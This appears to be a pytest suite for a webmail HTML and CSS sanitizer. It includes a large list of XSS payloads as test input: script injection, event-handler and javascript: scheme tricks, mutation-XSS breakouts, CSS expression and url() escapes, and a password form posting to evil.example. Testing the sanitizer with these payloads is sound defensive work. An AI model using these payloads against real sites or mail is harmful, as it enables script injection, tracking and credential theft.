from __future__ import annotations

from html.parser import HTMLParser

import pytest

from webmail.sanitize import SanitizedHtml, linkify_text, sanitize_css, sanitize_html

CID_URLS = {
    "logo@example.com": "/webmail/att/7/logo",
    "offsite": "https://evil.example/x.png",
    "protocol-relative": "//evil.example/x.png",
}
SAME_ORIGIN_PREFIX = "/webmail/att/"

# What may survive at all; anything else in the output is a sanitizer bug.
EXPECTED_TAGS = {
    *("a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote"),
    *("br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn"),
    *("div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3"),
    *("h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark"),
    *("nobr", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strike"),
    *("strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr"),
    *("tt", "u", "ul", "var", "wbr"),
}
URL_ATTRIBUTES = {"href", "src", "background"}
NEVER_ATTRIBUTES = {
    *("srcset", "formaction", "action", "xlink:href", "poster", "data", "ping", "lowsrc"),
    *("dynsrc", "longdesc", "codebase", "cite", "usemap", "srcdoc", "content", "http-equiv"),
    *("xmlns", "xmlns:xlink", "id", "name", "class", "rel-opener"),
}
STYLE_NEEDLES = ("@import", "expression", "javascript", "vbscript", "behavior", "binding", "\\")
BAD_POSITIONS = ("position: fixed", "position: absolute", "position: sticky")


def _normalized(url: str) -> str:
    stripped = url.strip("".join(chr(code) for code in range(0x21)))
    return stripped.translate(str.maketrans("", "", "\t\n\r")).lower()


class _InertnessChecker(HTMLParser):
    def __init__(self, *, allow_remote: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_remote = allow_remote
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in EXPECTED_TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in NEVER_ATTRIBUTES:
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
            elif name in URL_ATTRIBUTES and not self._is_allowed_url(name, value):
                self.problems.append(f"url {name}={value!r} on <{tag}>")
            elif name == "style":
                self._check_style(value)
            elif name == "target" and value != "_blank":
                self.problems.append(f"target={value!r}")
        if tag == "a":
            rel = dict(attrs).get("rel") or ""
            if set(rel.split()) != {"noopener", "noreferrer"}:
                self.problems.append(f"<a rel={rel!r}>")

    handle_startendtag = handle_starttag

    def _is_allowed_url(self, name: str, value: str) -> bool:
        url = _normalized(value)
        if name == "href":
            return url.startswith(("http://", "https://", "mailto:"))
        if url.startswith(SAME_ORIGIN_PREFIX):
            return True
        if url.startswith(("data:image/png;", "data:image/gif;", "data:image/jpeg;")):
            return True
        return self.allow_remote and url.startswith(("http://", "https://"))

    def _check_style(self, style: str) -> None:
        lowered = style.lower()
        for needle in (*STYLE_NEEDLES, *BAD_POSITIONS):
            if needle in lowered:
                self.problems.append(f"style {style!r} contains {needle!r}")
        for chunk in lowered.split("url(")[1:]:
            url = chunk.removeprefix('"')
            if not self._is_allowed_url("background", url.split('"')[0]):
                self.problems.append(f"style {style!r} loads {url!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


class _TreeRecorder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, *sorted(f"{name}={value}" for name, value in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        self.events.append(("text", data))


def _tree(html: str) -> list[tuple[str, ...]]:
    recorder = _TreeRecorder()
    recorder.feed(html)
    recorder.close()
    return recorder.events


def assert_inert(output: str, *, allow_remote: bool) -> None:
    checker = _InertnessChecker(allow_remote=allow_remote)
    checker.feed(output)
    checker.close()
    assert checker.problems == [], output
    # Markup-looking text must have been escaped, also inside attribute values.
    assert "<script" not in output.lower()
    assert "<img src=x" not in output.lower()


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-src-uppercase": "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-double-open": '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-quote-breakout": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "img-js-src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-js-src-mixed-case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img-decimal-entities": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;"
    "&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "img-hex-entities-no-semicolon": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69"
    "&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "img-svg-data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-html-data": '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "img-srcset": '<img srcset="http://evil.example/x.png 1x, javascript:alert(1) 2x">',
    "img-backslash-host": '<img src="\\\\evil.example\\x.png">',
    "img-unclosed-attribute": '<img src="x onerror=alert(1)//',
    "a-tab-entity-scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-newline-entity-scheme": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "a-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "a-leading-control": '<a href="&#14;  javascript:alert(1)">x</a>',
    "a-nul-in-scheme": '<a href="java\x00script:alert(1)">x</a>',
    "a-mixed-case-scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-colon-entity": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-relative-to-our-origin": '<a href="/settings/delete-account">x</a>',
    "a-ping-target-rel": '<a href="https://ok.example" ping="http://evil.example" '
    'target="_top" rel="opener" onclick="alert(1)">x</a>',
    "noscript-title-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    "</noscript>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text x="20">X</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-style-breakout": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>",
    "math-form-mglyph": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "math-href": '<math href="javascript:alert(1)">click</math>',
    "a-svg-desc-style": '<a href="https://ok.example"><svg><desc><style><img src=x '
    "onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)><p>x</p></body>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-js-src": '<iframe src="javascript:alert(1)"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="http://evil.example/x.swf">',
    "applet": '<applet code="X.class"><param name=x value=y></applet>',
    "base-href": '<base href="http://evil.example/"><a href="x">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form-action": '<form action="http://evil.example/steal"><input name=p type=password></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-image": '<input type="image" src="http://evil.example/x.png">',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "keygen-autofocus": "<keygen autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "link-stylesheet": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "style-import": "<style>@import url(http://evil.example/x.css);</style>",
    "style-import-in-table": "<table><style>@import 'http://evil.example/x.css';</style></table>",
    "style-background-url": "<style>body{background:url(http://evil.example/x)}</style>",
    "style-attr-remote-url": '<p style="background:url(http://evil.example/x.png)">x</p>',
    "style-attr-url-uppercase": "<p style=\"color:red;background:URL(  'http://evil.example/x' "
    ')">x</p>',
    "style-attr-url-entity": '<p style="background:url(&#104;ttp://evil.example/x)">x</p>',
    "style-attr-quote-entity": "<p style=\"font-family:'x';background:url(&quot;"
    'http://evil.example&quot;)">x</p>',
    "style-expression": '<p style="width: expression(alert(1))">x</p>',
    "style-expression-comment": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "style-escaped-url": '<p style="background:\\75\\72\\6c(http://evil.example/x)">x</p>',
    "style-escaped-url-owasp": "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'"
    "\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065"
    "\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "style-literal-escape": '<p style="background:u\\rl(http://evil.example/x)">x</p>',
    "style-comment-split-url": '<p style="background-image:ur/**/l(http://evil.example/x)">',
    "style-behavior": '<p style="behavior: url(x.htc)">x</p>',
    "style-moz-binding": '<p style="-moz-binding: url(http://evil.example/x.xml#xss)">x</p>',
    "style-image-set": "<p style=\"background-image:image-set('http://evil.example/x.png' 1x)\">",
    "style-list-style-image": '<p style="list-style-image:url(http://evil.example/x)">x</p>',
    "style-cursor": '<p style="cursor:url(http://evil.example/x.cur), auto">x</p>',
    "style-attr-breakout": '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
    "style-position-fixed-overlay": '<a href="https://evil.example" style="display:block;'
    'position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    "style-position-absolute": '<div style="position:absolute;top:0">x</div>',
    "style-position-sticky": '<div style="position: STICKY">x</div>',
    "video-poster": '<video poster="http://evil.example/x.png"><source '
    'src="http://evil.example/x.mp4"></video>',
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "picture-source": '<picture><source srcset="http://evil.example/a.png">'
    '<img src="http://evil.example/b.png"></picture>',
    "table-background": '<table background="http://evil.example/bg.png"><tr>'
    '<td background="javascript:alert(1)">x</td></tr></table>',
    "bgsound": "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "comment-script": "<!--<script>alert(1)</script>-->",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea-breakout": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "title-breakout": '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "select-style": "<select><style></select><img src=x onerror=alert(1)></style>",
    "unclosed-tag-handler": "<b onmouseover=alert(1)>unclosed",
    "namespaced-attribute": '<div xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xlink:href="javascript:alert(1)">x</div>',
    "cid-unknown": '<img src="cid:nobody@example.com">',
    "cid-offsite-target": '<img src="cid:offsite"><p style="background:url(cid:offsite)">x</p>',
    "cid-protocol-relative-target": '<img src="cid:protocol-relative">',
    "protocol-relative-img": '<img src="//evil.example/x.png">',
}


@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_is_inert(hostile: str, allow_remote: bool) -> None:
    result = sanitize_html(hostile, allow_remote=allow_remote, cid_urls=CID_URLS)
    assert_inert(result.html, allow_remote=allow_remote)


@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_output_is_stable_when_parsed_again(hostile: str, allow_remote: bool) -> None:
    # A mutation-XSS payload relies on the output parsing differently from how it was built,
    # so sanitizing the output again must give the same tree (nh3 may reorder attributes).
    once = sanitize_html(hostile, allow_remote=allow_remote).html
    twice = sanitize_html(once, allow_remote=allow_remote).html
    assert _tree(twice) == _tree(once)


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("<img src=x onerror=alert(1)>", "<img>"),
        (
            '<a href=" javascript:alert(1)">x</a>',
            '<a target="_blank" rel="noopener noreferrer">x</a>',
        ),
        ("<script>alert(1)</script>after", "after"),
        # html5ever parses <noscript> as a browser with scripting on does: the <img> escapes
        # the raw text, and loses its handler.
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<img>"&gt;'),
        ("<svg><script>alert(1)</script></svg>ok", "ok"),
        ("<form action=x><b>kept</b><button>Go</button></form>", "<b>kept</b>Go"),
        ("<!--<script>alert(1)</script>-->text", "text"),
        ("<xmp><b>x</b></xmp><ScRiPt>y</sCrIpT>z", "z"),
        (
            '<p style="color:red;background:url(http://evil.example/x)">x</p>',
            '<p style="color: red">x</p>',
        ),
    ],
)
def test_hostile_input_exact_output(hostile: str, expected: str) -> None:
    assert sanitize_html(hostile).html == expected


def test_hostile_vectors_are_many() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>x</script>",
        "<svg></svg>",
        "<img onerror=x>",
        '<a href="jav&#x09;ascript:x" target="_blank" rel="noopener noreferrer">x</a>',
        '<a href="https://ok.example" target="_top" rel="noopener noreferrer">x</a>',
        '<a href="https://ok.example">x</a>',
        '<img src="https://cdn.example/x.png">',
        '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
        '<td background="//cdn.example/x.png"></td>',
        '<p style="background: url(&quot;https://cdn.example/x.png&quot;)">x</p>',
        '<p style="position: fixed">x</p>',
        "<!-- x -->",
    ],
)
def test_inertness_check_catches_unsafe_output(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(unsafe, allow_remote=False)


NEWSLETTER = """\
<!DOCTYPE html><html><head><title>Weekly</title>
<style>.x{color:red}</style><meta charset="utf-8"></head>
<body style="margin:0">
<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff">
<tr><td style="font-family:Arial, sans-serif;font-size:14px;color:#333333;padding:10px 20px">
<h1 style="font-size:24px;margin:0 0 8px">Hello <b>reader</b></h1>
<p>Read <a href="https://news.example.com/story?id=1&amp;utm=mail">the story</a>
or <a href="mailto:editor@example.com">write to us</a>.</p>
</td></tr></table>
</body></html>"""

NEWSLETTER_EXPECTED = (
    '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" '
    'bgcolor="#ffffff">\n<tbody><tr><td style="font-family: Arial, sans-serif; '
    'font-size: 14px; color: #333333; padding: 10px 20px">\n'
    '<h1 style="font-size: 24px; margin: 0 0 8px">Hello <b>reader</b></h1>\n'
    '<p>Read <a href="https://news.example.com/story?id=1&amp;utm=mail" target="_blank" '
    'rel="noopener noreferrer">the story</a>\nor <a href="mailto:editor@example.com" '
    'target="_blank" rel="noopener noreferrer">write to us</a>.</p>\n'
    "</td></tr></tbody></table>"
)


def test_newsletter_keeps_tables_links_and_inline_styles() -> None:
    result = sanitize_html(NEWSLETTER)

    assert result == SanitizedHtml(
        html=NEWSLETTER_EXPECTED, has_remote_content=False, blocked_count=0
    )


def test_cid_images_are_rewritten_to_the_given_urls() -> None:
    html = (
        '<img src="cid:logo@example.com" alt="Logo">'
        '<img src="CID:logo%40example.com">'
        '<table background="cid:logo@example.com"><tr>'
        '<td style="background:url(cid:logo@example.com) no-repeat">x</td></tr></table>'
        '<img src="cid:unknown@example.com" alt="gone">'
    )

    result = sanitize_html(html, cid_urls=CID_URLS)

    assert result.html == (
        '<img src="/webmail/att/7/logo" alt="Logo"><img src="/webmail/att/7/logo">'
        '<table background="/webmail/att/7/logo"><tbody><tr>'
        '<td style="background: url(&quot;/webmail/att/7/logo&quot;) no-repeat">x</td>'
        '</tr></tbody></table><img alt="gone">'
    )
    assert (result.has_remote_content, result.blocked_count) == (False, 0)


def test_cid_images_are_removed_without_a_mapping() -> None:
    assert sanitize_html('<img src="cid:logo@example.com" alt="L">').html == '<img alt="L">'


def test_cid_mapping_to_another_origin_is_ignored() -> None:
    result = sanitize_html(
        '<img src="cid:offsite"><img src="cid:protocol-relative">', cid_urls=CID_URLS
    )

    assert result.html == "<img><img>"


REMOTE = (
    '<img src="https://track.example/open.gif" width="1" height="1">'
    '<img src="//cdn.example/hero.png" alt="Hero">'
    '<table background="http://cdn.example/bg.png"><tr><td>'
    "<div style=\"color:red;background-image:url('https://cdn.example/a.png')\">x</div>"
    "</td></tr></table>"
)


def test_remote_images_are_blocked_and_counted() -> None:
    result = sanitize_html(REMOTE)

    assert result == SanitizedHtml(
        html=(
            '<img height="1" width="1"><img alt="Hero"><table><tbody><tr><td>'
            '<div style="color: red">x</div></td></tr></tbody></table>'
        ),
        has_remote_content=True,
        blocked_count=4,
    )


def test_remote_images_are_kept_when_allowed() -> None:
    result = sanitize_html(REMOTE, allow_remote=True)

    assert result == SanitizedHtml(
        html=(
            '<img src="https://track.example/open.gif" width="1" height="1">'
            '<img src="https://cdn.example/hero.png" alt="Hero">'
            '<table background="http://cdn.example/bg.png"><tbody><tr><td>'
            '<div style="color: red; background-image: url(&quot;https://cdn.example/a.png'
            '&quot;)">x</div></td></tr></tbody></table>'
        ),
        has_remote_content=True,
        blocked_count=0,
    )


def test_dropped_elements_are_not_remote_content() -> None:
    html = (
        '<script src="https://evil.example/x.js"></script><embed src="https://evil.example/x">'
        '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4">'
        '</video><p style="list-style-image: url(https://evil.example/x.png)">x</p>'
    )

    result = sanitize_html(html)

    assert result == SanitizedHtml(html="<p>x</p>", has_remote_content=False, blocked_count=0)


def test_links_are_not_remote_content() -> None:
    result = sanitize_html('<a href="https://example.com/">x</a>')

    assert (result.has_remote_content, result.blocked_count) == (False, 0)


def test_inline_data_images_are_kept() -> None:
    html = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'

    assert sanitize_html(html).html == html


def test_links_get_target_and_rel_and_keep_their_text() -> None:
    html = '<a href="HTTPS://Example.com/a b" target="_self" rel="opener" title="t">go</a>'

    assert sanitize_html(html).html == (
        '<a href="HTTPS://Example.com/a b" title="t" target="_blank" '
        'rel="noopener noreferrer">go</a>'
    )


@pytest.mark.parametrize(
    ("style", "allow_remote", "expected"),
    [
        ("color:red;font-size:12px", False, "color: red; font-size: 12px"),
        ("COLOR: Red !important", False, "color: Red !important"),
        (r'font-family:"\5FAE\8F6F\96C5\9ED1", Arial', False, 'font-family: "微软雅黑", Arial'),
        ("background:url(http://evil.example/x);color:blue", False, "color: blue"),
        ("background:url(http://cdn.example/x)", True, 'background: url("http://cdn.example/x")'),
        (
            "background:url(data:image/gif;base64,R0lG) no-repeat",
            False,
            'background: url("data:image/gif;base64,R0lG") no-repeat',
        ),
        ("list-style-image:url(http://cdn.example/x)", True, ""),
        (r"background:\75\72\6c(http://evil.example/x)", False, ""),
        (
            r"background:\75\72\6c(http://evil.example/x)",
            True,
            'background: url("http://evil.example/x")',
        ),
        ("background:image-set('http://evil.example/x.png' 1x)", True, ""),
        (r"color:\3c/style\3e", False, ""),
        ("width: expression(alert(1)); height: 10px", False, "height: 10px"),
        ("color: re/**/d; /* comment */ margin: 0", False, "color: red; margin: 0"),
        ("position: fixed; top: 0", False, "top: 0"),
        ("position: relative; top: 2px", False, "position: relative; top: 2px"),
        (
            "background: linear-gradient(rgba(0,0,0,.5), #fff)",
            False,
            "background: linear-gradient(rgba(0,0,0,.5), #fff)",
        ),
        ('font-family: "a;b"; color: blue', False, 'font-family: "a;b"; color: blue'),
        # The broken piece goes; what follows the semicolon stands on its own.
        ('font-family: "unterminated; color: blue', False, "color: blue"),
        ("color: red); margin: 0", False, "margin: 0"),
        ("color:red;}body{background:red", False, "color: red"),
        ("-moz-binding: url(x.xml#x); behavior: url(x.htc)", True, ""),
        ("content: 'x'; cursor: pointer", False, ""),
    ],
)
def test_sanitize_css(style: str, allow_remote: bool, expected: str) -> None:
    assert sanitize_css(style, allow_remote=allow_remote) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "<script>alert('x')</script> & more",
            "&lt;script&gt;alert('x')&lt;/script&gt; &amp; more",
        ),
        (
            "See https://example.com/path?a=1&b=2.",
            'See <a href="https://example.com/path?a=1&amp;b=2" target="_blank" '
            'rel="noopener noreferrer">https://example.com/path?a=1&amp;b=2</a>.',
        ),
        (
            "(docs: https://en.wikipedia.org/wiki/Foo_(bar)), ok",
            '(docs: <a href="https://en.wikipedia.org/wiki/Foo_(bar)" target="_blank" '
            'rel="noopener noreferrer">https://en.wikipedia.org/wiki/Foo_(bar)</a>), ok',
        ),
        (
            "Write to bob.smith+news@mail.example.org!",
            'Write to <a href="mailto:bob.smith+news@mail.example.org" target="_blank" '
            'rel="noopener noreferrer">bob.smith+news@mail.example.org</a>!',
        ),
        ("line one\r\nline two\rthree\n", "line one<br>line two<br>three<br>"),
        (
            'javascript:alert(1) <a href="javascript:x">',
            'javascript:alert(1) &lt;a href="javascript:x"&gt;',
        ),
        (
            '<http://example.com/"onmouseover="x>',
            '&lt;<a href="http://example.com/" target="_blank" rel="noopener noreferrer">'
            'http://example.com/</a>"onmouseover="x&gt;',
        ),
        ("https:// nothing", "https:// nothing"),
    ],
)
def test_linkify_text(text: str, expected: str) -> None:
    assert linkify_text(text) == expected
